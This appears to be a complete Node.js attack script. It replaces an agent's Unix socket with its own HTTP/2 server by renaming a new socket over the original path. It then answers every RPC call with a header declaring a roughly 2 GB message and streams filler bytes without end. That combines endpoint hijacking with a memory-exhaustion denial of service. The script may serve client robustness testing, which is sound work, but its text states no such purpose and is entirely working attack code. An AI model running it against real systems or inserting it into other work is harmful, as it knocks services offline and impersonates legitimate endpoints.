// Takes over an agent's socket and answers every call with the header of a 2 GB message, then bytes for as long as it is read.
// Argument: path of the socket.
import fs from 'node:fs'
import http2 from 'node:http2'

const socket = process.argv[2]
const header = Buffer.from([0, 0x7f, 0xff, 0xff, 0xff])
const filler = Buffer.alloc(64 * 1024, 0x61)

const server = http2.createServer()
server.on('session', (session) => session.on('error', () => {}))
server.on('stream', (stream, headers) => {
  stream.on('error', () => {})
  stream.respond({ ':status': 200, 'content-type': headers['content-type'] ?? 'application/connect+proto' })
  stream.write(header)
  console.log(`answered ${headers[':path']}`)
  const pour = () => {
    while (!stream.destroyed && stream.write(filler));
  }
  stream.on('drain', pour)
  pour()
})
server.listen(`${socket}.new`, () => {
  fs.renameSync(`${socket}.new`, socket)
  console.log('listening')
})
